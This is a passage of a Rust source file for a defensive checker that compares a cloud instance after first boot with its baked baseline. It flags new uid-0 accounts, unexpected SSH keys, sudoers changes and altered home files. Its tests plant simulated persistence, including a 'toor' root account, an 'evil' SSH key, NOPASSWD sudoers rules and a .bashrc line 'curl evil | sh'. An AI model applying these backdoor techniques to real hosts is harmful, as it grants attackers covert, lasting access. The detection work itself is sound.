            && b.target == e.target
            && (e.kind != "file" || (b.sha256.is_some() && b.sha256 == e.sha256))
        {
            continue;
        }
        let what = if recorded.contains_key(e.path.as_str()) {
            "changed since the bake"
        } else {
            "new since the bake"
        };
        j.findings.push(Finding {
            detail: format!(
                "{} under an ignored path, {what} (mode {}{})",
                e.reasons.join(", "),
                e.mode,
                e.target
                    .as_deref()
                    .map(|t| format!(", -> {t}"))
                    .unwrap_or_default()
            ),
            path: e.path,
            kind: "state",
        });
    }
    j.findings
        .sort_by(|a, b| (&a.path, a.kind).cmp(&(&b.path, b.kind)));
    j.judged.sort();
    j.judged.dedup();
    Ok(j)
}

fn judge_accounts(
    base: &[Account],
    live: &[Account],
    new_default: Option<&str>,
    f: &mut Vec<Finding>,
) {
    let by_name: BTreeMap<&str, &Account> = base.iter().map(|a| (a.name.as_str(), a)).collect();
    let mut seen = BTreeSet::new();
    let finding = |kind, detail: String| Finding {
        path: "/etc/passwd".into(),
        kind,
        detail,
    };
    for a in live {
        if !seen.insert(a.name.as_str()) {
            f.push(finding(
                "account-added",
                format!("{}: a second line for this name", a.name),
            ));
            continue;
        }
        match by_name.get(a.name.as_str()) {
            Some(b) if *b != a => {
                f.push(finding(
                    "account-changed",
                    format!(
                        "{}: {} at the bake, {} now",
                        a.name,
                        describe(b),
                        describe(a)
                    ),
                ));
                if a.uid == 0 && b.uid != 0 {
                    f.push(finding("uid-0", format!("{} now has uid 0", a.name)));
                }
            }
            Some(_) => {}
            None if a.uid == 0 => {
                f.push(finding(
                    "uid-0",
                    format!("new account {} with uid 0", a.name),
                ));
            }
            None if Some(a.name.as_str()) == new_default => {
                if a.gid == 0 {
                    f.push(finding(
                        "account-added",
                        format!("cloud-init default user {} has primary group 0", a.name),
                    ));
                }
                if a.password != Password::Locked {
                    f.push(finding(
                        "account-added",
                        format!(
                            "cloud-init default user {} has a usable password (cloud-init locks it)",
                            a.name
                        ),
                    ));
                }
                if a.home != format!("/home/{}", a.name) {
                    f.push(finding(
                        "account-added",
                        format!("cloud-init default user {} has home {}", a.name, a.home),
                    ));
                }
            }
            None if a.login || a.password != Password::Locked || a.gid == 0 => {
                f.push(finding(
                    "account-added",
                    format!(
                        "new account that can log in or is in group 0: {}",
                        describe(a)
                    ),
                ));
            }
            None => {}
        }
    }
    for b in base {
        if !seen.contains(b.name.as_str()) {
            f.push(finding("account-removed", format!("{} removed", b.name)));
        }
    }
}

fn describe(a: &Account) -> String {
    format!(
        "{} uid {} gid {} home {} shell {:?} password {:?}",
        a.name, a.uid, a.gid, a.home, a.shell, a.password
    )
    .replace("Locked", "locked")
    .replace("Set", "set")
    .replace("Empty", "empty")
}

fn judge_groups(base: &[Group], live: &[Group], new_default: Option<&str>, f: &mut Vec<Finding>) {
    let by_name: BTreeMap<&str, &Group> = base.iter().map(|g| (g.name.as_str(), g)).collect();
    let finding = |kind, detail: String| Finding {
        path: "/etc/group".into(),
        kind,
        detail,
    };
    let allowed = |m: &String| Some(m.as_str()) == new_default;
    let mut seen = BTreeSet::new();
    for g in live {
        if !seen.insert(g.name.as_str()) {
            f.push(finding(
                "group-added",
                format!("{}: a second line for this name", g.name),
            ));
            continue;
        }
        match by_name.get(g.name.as_str()) {
            Some(b) => {
                let added: Vec<&String> = g
                    .members
                    .iter()
                    .filter(|m| !b.members.contains(m) && !allowed(m))
                    .collect();
                if b.gid != g.gid || b.password != g.password || !added.is_empty() {
                    f.push(finding(
                        "group-changed",
                        format!(
                            "{}: gid {} -> {}, password {:?} -> {:?}, new members {:?}",
                            g.name, b.gid, g.gid, b.password, g.password, added
                        ),
                    ));
                }
            }
            None => {
                if g.gid == 0 || g.password != Password::Locked || !g.members.iter().all(allowed) {
                    f.push(finding(
                        "group-added",
                        format!(
                            "{} gid {} password {:?} members {:?}",
                            g.name, g.gid, g.password, g.members
                        ),
                    ));
                }
            }
        }
    }
    for b in base {
        if !seen.contains(b.name.as_str()) {
            f.push(finding("group-removed", format!("{} removed", b.name)));
        }
    }
}

fn judge_sudoers(
    root: &Root,
    baseline: &Baseline,
    default_user: Option<&str>,
    f: &mut Vec<Finding>,
) {
    let mut problems = Vec::new();
    let live = read_sudoers_d(root, &mut problems);
    for p in problems {
        f.push(Finding {
            path: "/etc/sudoers.d".into(),
            kind: "unreadable",
            detail: p,
        });
    }
    for d in &live {
        let path = format!("/etc/sudoers.d/{}", d.name);
        let baked = baseline.sudoers_d.iter().find(|b| b.name == d.name);
        if baked.is_some_and(|b| b.sha256.is_some() && b.sha256 == d.sha256) {
            continue;
        }
        if d.name != CLOUD_INIT_SUDOERS {
            // Its content is the SBOM comparison's; by name it is new.
            if baked.is_none() {
                f.push(Finding {
                    path,
                    kind: "sudoers",
                    detail: "sudoers drop-in added since the bake".into(),
                });
            }
            continue;
        }
        let text = match root.read_file(path.as_bytes(), TEXT_LIMIT) {
            Ok(b) => String::from_utf8_lossy(&b).into_owned(),
            Err(e) => {
                f.push(Finding {
                    path,
                    kind: "unreadable",
                    detail: e.to_string(),
                });
                continue;
            }
        };
        for bad in sudoers_rules_not_for(&text, default_user) {
            f.push(Finding {
                path: path.clone(),
                kind: "sudoers",
                detail: format!(
                    "not a rule for the cloud-init default user {default_user:?}: {bad}"
                ),
            });
        }
    }
}

/// The lines of a sudoers file that are not plain rules for `user`:
/// directives (`#include`, `@include`, `Defaults`, aliases) and rules whose
/// user list is anything but `user`.
pub fn sudoers_rules_not_for(text: &str, user: Option<&str>) -> Vec<String> {
    let mut out = Vec::new();
    let mut logical = String::new();
    let mut lines = Vec::new();
    for l in text.lines() {
        if let Some(s) = l.strip_suffix('\\') {
            logical.push_str(s);
            logical.push(' ');
            continue;
        }
        logical.push_str(l);
        lines.push(std::mem::take(&mut logical));
    }
    if !logical.is_empty() {
        lines.push(logical);
    }
    for l in lines {
        let t = l.trim();
        if t.is_empty() {
            continue;
        }
        if t.starts_with('#') && !t.starts_with("#include") {
            continue;
        }
        let first = t.split_whitespace().next().unwrap_or("");
        if Some(first) != user {
            out.push(t.chars().take(120).collect());
        }
    }
    out
}

fn judge_keys(root: &Root, accounts: &[Account], given_keys: &[String], j: &mut Judgement) {
    let (given, _) = key_fingerprints(given_keys);
    let mut homes: BTreeSet<String> = accounts
        .iter()
        .map(|a| a.home.clone())
        .filter(|h| h.starts_with('/'))
        .collect();
    homes.insert("/root".into());
    let mut files = BTreeSet::new();
    for h in homes {
        for n in ["authorized_keys", "authorized_keys2"] {
            let p = format!("{}/.ssh/{n}", h.trim_end_matches('/'));
            // Resolved inside the root: the same file by another path once.
            let canon = root
                .canonicalize(p.as_bytes())
                .map(|c| String::from_utf8_lossy(&c).into_owned())
                .unwrap_or(p);
            files.insert(canon);
        }
    }
    for p in files {
        let b = match root.read_file(p.as_bytes(), TEXT_LIMIT) {
            Ok(b) => b,
            Err(e) if e.is_not_found() => continue,
            Err(e) => {
                j.findings.push(Finding {
                    path: p,
                    kind: "unreadable",
                    detail: e.to_string(),
                });
                continue;
            }
        };
        j.judged.push(p.clone());
        let text = String::from_utf8_lossy(&b).into_owned();
        let (fps, bad) = key_fingerprints(&[text]);
        for fp in fps.difference(&given) {
            j.findings.push(Finding {
                path: p.clone(),
                kind: "authorized-key",
                detail: format!("{fp} is not a key the instance was given"),
            });
        }
        for l in bad {
            j.findings.push(Finding {
                path: p.clone(),
                kind: "authorized-key",
                detail: format!("not a public key line: {l}"),
            });
        }
    }
}

/// The new default user's home may hold only copies of `/etc/skel` and
/// `.ssh/authorized_keys` (judged with the keys).
fn judge_new_home(root: &Root, a: &Account, j: &mut Judgement) {
    let home = format!("/home/{}", a.name);
    if a.home != home {
        return; // reported with the account; nothing is excused
    }
    let mut stack = vec![String::new()];
    let mut count = 0usize;
    while let Some(rel) = stack.pop() {
        let dir = format!("{home}{rel}");
        let Ok(names) = root.read_dir(dir.as_bytes()) else {
            continue;
        };
        for n in names {
            count += 1;
            let r = format!("{rel}/{}", String::from_utf8_lossy(&n));
            let p = format!("{home}{r}");
            j.judged.push(p.clone());
            if count > 10_000 {
                j.findings.push(Finding {
                    path: home.clone(),
                    kind: "home",
                    detail: "more than 10000 entries".into(),
                });
                return;
            }
            match root.kind_of(p.as_bytes()) {
                Ok(Some(FileKind::Directory)) => stack.push(r),
                Ok(Some(FileKind::Regular)) => {
                    if r == "/.ssh/authorized_keys" || r == "/.ssh/authorized_keys2" {
                        continue;
                    }
                    let live = root.read_file(p.as_bytes(), TEXT_LIMIT).ok();
                    let skel = root
                        .read_file(format!("/etc/skel{r}").as_bytes(), TEXT_LIMIT)
                        .ok();
                    if live.is_none() || live != skel {
                        j.findings.push(Finding {
                            path: p,
                            kind: "home",
                            detail: format!(
                                "in the new home of {}, not a copy of /etc/skel{r}",
                                a.name
                            ),
                        });
                    }
                }
                Ok(k) => j.findings.push(Finding {
                    path: p,
                    kind: "home",
                    detail: format!(
                        "in the new home of {}: a {} (only /etc/skel copies are expected)",
                        a.name,
                        k.map(|k| k.as_str()).unwrap_or("vanished entry")
                    ),
                }),
                Err(e) => j.findings.push(Finding {
                    path: p,
                    kind: "unreadable",
                    detail: e.to_string(),
                }),
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::os::unix::fs::PermissionsExt;

    const PASSWD: &str = "root:x:0:0:root:/root:/bin/bash\n\
        daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n\
        _apt:x:42:65534::/nonexistent:/usr/sbin/nologin\n";
    const SHADOW: &str = "root:*:19000:0:99999:7:::\ndaemon:*:19000::::::\n_apt:*:19000::::::\n";
    const GROUP: &str = "root:x:0:\nsudo:x:27:\nadm:x:4:\n";

    fn write(root: &std::path::Path, p: &str, body: &str) {
        let f = root.join(p.trim_start_matches('/'));
        std::fs::create_dir_all(f.parent().unwrap()).unwrap();
        std::fs::write(f, body).unwrap();
    }

    fn baked() -> tempfile::TempDir {
        let t = tempfile::tempdir().unwrap();
        let r = t.path();
        write(r, "/etc/passwd", PASSWD);
        write(r, "/etc/shadow", SHADOW);
        write(r, "/etc/group", GROUP);
        write(
            r,
            "/etc/cloud/cloud.cfg",
            "users:\n  - default\nsystem_info:\n  distro: debian\n  default_user:\n    name: debian\n    lock_passwd: True\n",
        );
        write(r, "/etc/skel/.bashrc", "# skel bashrc\n");
        write(
            r,
            "/var/lib/systemd/deb-systemd-helper-enabled/ssh.service",
            "",
        );
        std::fs::create_dir_all(r.join("tmp")).unwrap();
        t
    }

    fn globs() -> Vec<String> {
        DEFAULT_IGNORED.iter().map(|(g, _)| g.to_string()).collect()
    }

    /// First boot as cloud-init does it on Debian: the default user with
    /// the given key, its sudoers drop-in, its group memberships.
    fn first_boot(r: &std::path::Path, key: &str) {
        write(
            r,
            "/etc/passwd",
            &format!("{PASSWD}debian:x:1000:1000:Debian:/home/debian:/bin/bash\n"),
        );
        write(
            r,
            "/etc/shadow",
            &format!("{SHADOW}debian:!:19000:0:99999:7:::\n"),
        );
        write(
            r,
            "/etc/group",
            "root:x:0:\nsudo:x:27:debian\nadm:x:4:debian\ndebian:x:1000:\n",
        );
        write(
            r,
            "/etc/sudoers.d/90-cloud-init-users",
            "# Created by cloud-init v. 22.4.2\n\n# User rules for debian\ndebian ALL=(ALL) NOPASSWD:ALL\n",
        );
        write(r, "/home/debian/.bashrc", "# skel bashrc\n");
        write(r, "/home/debian/.ssh/authorized_keys", &format!("{key}\n"));
        write(
            r,
            "/root/.ssh/authorized_keys",
            &format!(
                "no-port-forwarding,command=\"echo 'Please login as the user \\\"debian\\\" rather than the user \\\"root\\\".';echo;sleep 10;exit 142\" {key}\n"
            ),
        );
        write(r, "/etc/machine-id", "0123456789abcdef0123456789abcdef\n");
        write(r, "/var/log/cloud-init.log", "log\n");
        write(r, "/var/lib/systemd/timers/stamp-apt-daily.timer", "");
        write(
            r,
            "/var/lib/cloud/instances/i-1/user-data.txt",
            "#cloud-config\n",
        );
    }

    const KEY: &str =
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl given";
    const OTHER: &str =
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBkz0LTQPnu2XcPKVeIVqp2YW+aUUyB7G3Bq6fqN6E1p evil";

    fn kinds(j: &Judgement) -> Vec<(&str, &str)> {
        j.findings
            .iter()
            .map(|f| (f.path.as_str(), f.kind))
            .collect()
    }

    #[test]
    fn legit_first_boot_passes_and_persistence_does_not() {
        let t = baked();
        let r = t.path();
        let b = Baseline::of_root(&Root::open(r).unwrap());
        assert_eq!(b.default_user.as_deref(), Some("debian"));
        assert!(b.incomplete.is_empty(), "{:?}", b.incomplete);
        assert_eq!(b.accounts.len(), 3);
        assert_eq!(b.state.len(), 1, "{:?}", b.state);
        first_boot(r, KEY);
        let root = Root::open(r).unwrap();
        let j = judge(&root, &b, &globs(), &[KEY.to_string()]).unwrap();
        assert!(j.findings.is_empty(), "{:#?}", j.findings);
        assert!(j.judged.contains(&"/home/debian/.bashrc".to_string()));
        assert!(j.judged.contains(&"/root/.ssh/authorized_keys".to_string()));

        // Each persistence, one at a time, is found.
        #[allow(clippy::type_complexity)]
        let cases: Vec<(&str, Box<dyn Fn(&std::path::Path)>, &str, &str)> = vec![
            (
                "uid 0",
                Box::new(|r| {
                    write(
                        r,
                        "/etc/passwd",
                        &format!(
                            "{PASSWD}debian:x:1000:1000::/home/debian:/bin/bash\ntoor:x:0:0::/root:/bin/bash\n"
                        ),
                    )
                }),
                "/etc/passwd",
                "uid-0",
            ),
            (
                "key",
                Box::new(|r| {
                    write(
                        r,
                        "/root/.ssh/authorized_keys",
                        &format!("{KEY}\n{OTHER}\n"),
                    )
                }),
                "/root/.ssh/authorized_keys",
                "authorized-key",
            ),
            (
                "login account",
                Box::new(|r| {
                    write(
                        r,
                        "/etc/passwd",
                        &format!(
                            "{PASSWD}debian:x:1000:1000::/home/debian:/bin/bash\nsvc:x:999:999::/var/lib/svc:/bin/sh\n"
                        ),
                    )
                }),
                "/etc/passwd",
                "account-added",
            ),
            (
                "shell changed",
                Box::new(|r| {
                    write(
                        r,
                        "/etc/passwd",
                        &(PASSWD.replace("/usr/sbin:/usr/sbin/nologin", "/usr/sbin:/bin/bash")
                            + "debian:x:1000:1000::/home/debian:/bin/bash\n"),
                    )
                }),
                "/etc/passwd",
                "account-changed",
            ),
            (
                "sudo member",
                Box::new(|r| {
                    write(
                        r,
                        "/etc/group",
                        "root:x:0:\nsudo:x:27:debian,daemon\nadm:x:4:debian\ndebian:x:1000:\n",
                    )
                }),
                "/etc/group",
                "group-changed",
            ),
            (
                "sudoers other",
                Box::new(|r| {
                    write(
                        r,
                        "/etc/sudoers.d/90-cloud-init-users",
                        "debian ALL=(ALL) NOPASSWD:ALL\ndaemon ALL=(ALL) NOPASSWD:ALL\n",
                    )
                }),
                "/etc/sudoers.d/90-cloud-init-users",
                "sudoers",
            ),
            (
                "sudoers include",
                Box::new(|r| {
                    write(
                        r,
                        "/etc/sudoers.d/90-cloud-init-users",
                        "#includedir /tmp\n",
                    )
                }),
                "/etc/sudoers.d/90-cloud-init-users",
                "sudoers",
            ),
            (
                "sudoers new",
                Box::new(|r| write(r, "/etc/sudoers.d/zz", "daemon ALL=(ALL) ALL\n")),
                "/etc/sudoers.d/zz",
                "sudoers",
            ),
            (
                "evil.sh",
                Box::new(|r| {
                    write(r, "/var/lib/systemd/evil.sh", "echo\n");
                    std::fs::set_permissions(
                        r.join("var/lib/systemd/evil.sh"),
                        std::fs::Permissions::from_mode(0o755),
                    )
                    .unwrap();
                }),
                "/var/lib/systemd/evil.sh",
                "state",
            ),
            (
                "shebang",
                Box::new(|r| write(r, "/var/tmp/x", "#!/bin/sh\n")),
                "/var/tmp/x",
                "state",
            ),
            (
                "per-boot",
                Box::new(|r| {
                    write(r, "/var/lib/cloud/scripts/per-boot/x", "true\n");
                    std::fs::set_permissions(
                        r.join("var/lib/cloud/scripts/per-boot/x"),
                        std::fs::Permissions::from_mode(0o700),
                    )
                    .unwrap();
                }),
                "/var/lib/cloud/scripts/per-boot/x",
                "state",
            ),
            (
                "unit",
                Box::new(|r| write(r, "/var/lib/systemd/x.service", "[Service]\n")),
                "/var/lib/systemd/x.service",
                "state",
            ),
            (
                "baked unit changed",
                Box::new(|r| {
                    write(
                        r,
                        "/var/lib/systemd/deb-systemd-helper-enabled/ssh.service",
                        "x",
                    )
                }),
                "/var/lib/systemd/deb-systemd-helper-enabled/ssh.service",
                "state",
            ),
            (
                "home",
                Box::new(|r| write(r, "/home/debian/.bashrc", "curl evil | sh\n")),
                "/home/debian/.bashrc",
                "home",
            ),
            (
                "preload",
                Box::new(|r| write(r, "/tmp/libx.so", "\x7fELF")),
                "/tmp/libx.so",
                "state",
            ),
        ];
        for (what, change, path, kind) in cases {
            let t = baked();
            let r = t.path();
            let b = Baseline::of_root(&Root::open(r).unwrap());
            first_boot(r, KEY);
            change(r);
            let j = judge(&Root::open(r).unwrap(), &b, &globs(), &[KEY.to_string()]).unwrap();
            assert!(
                kinds(&j).contains(&(path, kind)),
                "{what}: {:#?}",
                j.findings
            );
        }
    }

    #[test]
    fn without_given_keys_any_key_is_a_finding() {
        let t = baked();
        let r = t.path();
        let b = Baseline::of_root(&Root::open(r).unwrap());
        first_boot(r, KEY);
        let j = judge(&Root::open(r).unwrap(), &b, &globs(), &[]).unwrap();
        let k = kinds(&j);
        assert!(
            k.contains(&("/root/.ssh/authorized_keys", "authorized-key")),
            "{k:?}"
        );
        assert!(
            k.contains(&("/home/debian/.ssh/authorized_keys", "authorized-key")),
            "{k:?}"
        );
    }

    #[test]
    fn big_sparse_file_is_not_read() {
        let t = baked();
        let r = t.path();
        let b = Baseline::of_root(&Root::open(r).unwrap());
        let f = std::fs::File::create(r.join("tmp/big")).unwrap();
        f.set_len(4 << 30).unwrap();
        // Executable: a finding from its mode alone, never hashed.
        std::fs::set_permissions(r.join("tmp/big"), std::fs::Permissions::from_mode(0o755))
            .unwrap();
        let w = walk_ignored(&Root::open(r).unwrap(), &globs(), |p| {
            b.state.iter().any(|e| e.path == p)
        })
        .unwrap();
        let e = w.found.iter().find(|e| e.path == "/tmp/big").unwrap();
        assert_eq!(e.sha256, None);
        assert_eq!(e.reasons, vec!["executable".to_string()]);
    }

    #[test]
    fn cloud_cfg_default_user() {
        assert_eq!(
            default_user_of_yaml(
                "system_info:\n  default_user:\n    name: ec2-user\n    groups: [wheel, adm]\n"
            )
            .unwrap(),
            Some("ec2-user".into())
        );
        assert_eq!(
            default_user_of_yaml("system_info: {default_user: {name: ubuntu}}").unwrap(),
            Some("ubuntu".into())
        );
        assert_eq!(
            default_user_of_yaml("user: admin\nsystem_info:\n  default_user:\n    name: debian\n")
                .unwrap(),
            Some("admin".into())
        );
        assert_eq!(default_user_of_yaml("# only comments\n").unwrap(), None);
        assert_eq!(default_user_of_yaml("").unwrap(), None);
        assert!(default_user_of_yaml("a: [\n").is_err());
        assert_eq!(default_user_of_yaml("- 1\n- 2\n").unwrap(), None);
    }

    #[test]
    fn sudoers_lines() {
        let ok =
            "# Created by cloud-init\n\n# User rules for debian\ndebian ALL=(ALL) NOPASSWD:ALL\n";
        assert!(sudoers_rules_not_for(ok, Some("debian")).is_empty());
        assert_eq!(sudoers_rules_not_for(ok, None).len(), 1);
        for bad in [
            "%sudo ALL=(ALL) ALL",
            "ALL ALL=(ALL) ALL",
            "Defaults !authenticate",
            "@includedir /tmp",
            "#include /tmp/x",
            "User_Alias X = daemon",
            "debian,daemon ALL=(ALL) ALL",
        ] {
            assert_eq!(sudoers_rules_not_for(bad, Some("debian")).len(), 1, "{bad}");
        }
        // A continuation line cannot hide a second user.
        assert!(sudoers_rules_not_for("debian ALL=(ALL) \\\nALL\n", Some("debian")).is_empty());
    }

    #[test]
    fn names_and_prefixes() {
        assert_eq!(literal_prefix("/var/log/**"), "/var/log");
        assert_eq!(literal_prefix("/etc/ssh/ssh_host_*"), "/etc/ssh");
        assert_eq!(literal_prefix("/etc/hostname"), "/etc/hostname");
        assert!(is_unit("/var/lib/systemd/x.timer", FileKind::Regular, 0));
        assert!(!is_unit(
            "/var/lib/systemd/timers/stamp-fstrim.timer",
            FileKind::Regular,
            0
        ));
        assert!(is_unit(
            "/var/lib/systemd/timers/stamp-fstrim.timer",
            FileKind::Regular,
            3
        ));
        assert!(is_unit("/var/tmp/x.service.d/o.conf", FileKind::Regular, 3));
        assert!(is_cron("/var/spool/cron/crontabs/root"));
        assert!(!is_cron("/var/spool/anacron/cron.daily"));
        assert!(is_library("/tmp/ld.so.preload"));
        assert!(is_library("/tmp/libc.so.6"));
        assert_eq!(password_state(""), Password::Empty);
        assert_eq!(password_state("!"), Password::Locked);
        assert_eq!(password_state("$6$x"), Password::Set);
        assert!(!is_login_shell("/usr/sbin/nologin"));
        assert!(is_login_shell(""));
    }
}
